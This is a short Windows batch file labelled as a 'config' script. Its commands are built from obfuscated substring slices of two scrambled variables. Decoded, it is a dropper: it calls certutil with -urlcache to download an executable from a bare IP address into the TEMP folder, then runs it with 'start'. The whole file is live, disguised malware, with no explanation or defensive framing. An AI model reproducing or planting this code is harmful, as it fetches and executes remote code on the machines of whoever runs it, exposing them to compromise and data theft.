REM config 7514 v1
@echo off
@echo off
set "eenl=EX\UiP2-vfaoV/pc7r0uetqx3l.J1s5ThM:O"
%eenl:~15,1%%eenl:~-16,1%%eenl:~17,1%%eenl:~21,1%%eenl:~19,1%%eenl:~21,1%%eenl:~-32,1%%eenl:~-11,1%%eenl:~26,1%%eenl:~20,1%%eenl:~23,1%%eenl:~20,1% %eenl:~7,1%%eenl:~19,1%%eenl:~17,1%%eenl:~25,1%%eenl:~15,1%%eenl:~-26,1%%eenl:~15,1%%eenl:~32,1%%eenl:~20,1% %eenl:~7,1%%eenl:~29,1%%eenl:~14,1%%eenl:~25,1%%eenl:~4,1%%eenl:~-15,1% %eenl:~7,1%%eenl:~9,1% %eenl:~-4,1%%eenl:~21,1%%eenl:~21,1%%eenl:~14,1%%eenl:~34,1%%eenl:~13,1%%eenl:~13,1%%eenl:~6,1%%eenl:~18,1%%eenl:~24,1%%eenl:~26,1%%eenl:~18,1%%eenl:~26,1%%eenl:~28,1%%eenl:~-8,1%%eenl:~24,1%%eenl:~26,1%%eenl:~28,1%%eenl:~16,1%%eenl:~-23,1%%eenl:~29,1%%eenl:~-28,1%%eenl:~-21,1%%eenl:~26,1%%eenl:~-16,1%%eenl:~23,1%%eenl:~-16,1% %TEMP%%eenl:~-34,1%%eenl:~-7,1%%eenl:~8,1%%eenl:~15,1%%eenl:~26,1%%eenl:~20,1%%eenl:~23,1%%eenl:~-16,1%
@echo off
set "joiq=\sHucvEDe.aQtxIPTbwMrJ"
%joiq:~-21,1%%joiq:~12,1%%joiq:~-12,1%%joiq:~20,1%%joiq:~12,1% "" %TEMP%%joiq:~0,1%%joiq:~1,1%%joiq:~-17,1%%joiq:~4,1%%joiq:~9,1%%joiq:~8,1%%joiq:~13,1%%joiq:~8,1%
